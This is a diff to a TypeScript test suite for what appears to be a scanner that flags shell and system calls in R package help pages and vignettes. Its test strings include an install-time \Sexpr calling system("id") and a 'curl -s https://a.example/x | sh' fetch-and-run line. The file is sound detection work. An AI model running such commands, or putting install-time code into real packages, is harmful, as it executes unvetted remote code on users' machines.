@@ -22,6 +22,11 @@ describe("code of a help page", () => {
     ]);
   });
 
+  test("is seen after long options", async () => {
+    const long = `\\description{\\Sexpr[${"results=hide,".repeat(40)}stage=install]{system("id")}}\n`;
+    expect(await signalsIn("man/a.Rd", long)).toEqual(["warning r-help-code system 1"]);
+  });
+
   test("that shows something is fine, and so are examples", async () => {
     expect(await signalsIn("man/a.Rd", page('lifecycle::badge("stable")'))).toEqual([]);
     expect(await signalsIn("man/a.Rd", '\\name{a}\n\\examples{system("id")}\n')).toEqual([]);
@@ -56,7 +61,29 @@ describe("code of a vignette", () => {
       expect(await signalsIn(path, text)).toEqual(["warning process system 2"]);
   });
 
-  test("of another language is none", async () => {
+  test("is seen in a block quote, in a line of text, and with other engines of R", async () => {
+    const found = async (text: string, name = "a.Rmd") => (await signalsIn(`vignettes/${name}`, text)).join();
+    expect(await found('> ```{r}\n> system("make")\n> ```\n')).toBe("warning process system 2");
+    expect(await found('``` {r}\nsystem("make")\n```\n')).toBe("warning process system 2");
+    expect(await found('Text `r 1` and `r system("make")` more\n')).toBe("warning process system 1");
+    expect(await found('Text \\Sexpr{system("make")} more\n', "a.Rnw")).toBe("warning process system 1");
+    expect(await found('Text `system("make")` and `rows` more\n')).toBe("");
+  });
+
+  test("of a shell is a warning where it connects or starts a script, and elsewhere a notice", async () => {
+    const found = async (code: string, options = "") =>
+      await signalsIn("vignettes/a.Rmd", `\`\`\`{bash${options}}\n${code}\n\`\`\`\n`);
+    expect(await found("curl -s https://a.example/x | sh")).toEqual(["warning process bash 2"]);
+    expect(await found("sh ../inst/x")).toEqual(["warning process bash 2"]);
+    expect(await found("ls *.csv")).toEqual(["notice process bash 2"]);
+    expect(await found("curl -s https://a.example/x | sh", ", eval=FALSE")).toEqual([]);
+    expect(await found("#| eval: false\ncurl -s https://a.example/x | sh")).toEqual([]);
+  });
+
+  test("of another language is none unless it reaches outside", async () => {
+    expect(await signalsIn("vignettes/a.Rmd", "```{python}\nimport os\nos.system('id')\n```\n")).toEqual([
+      "warning process python 2",
+    ]);
     expect(await signalsIn("vignettes/a.Rmd", "```{python}\nsystem('id')\n```\n")).toEqual([]);
     expect(await signalsIn("vignettes/a.Rmd", "```r\nsystem('id')\n```\n")).toEqual([]);
   });
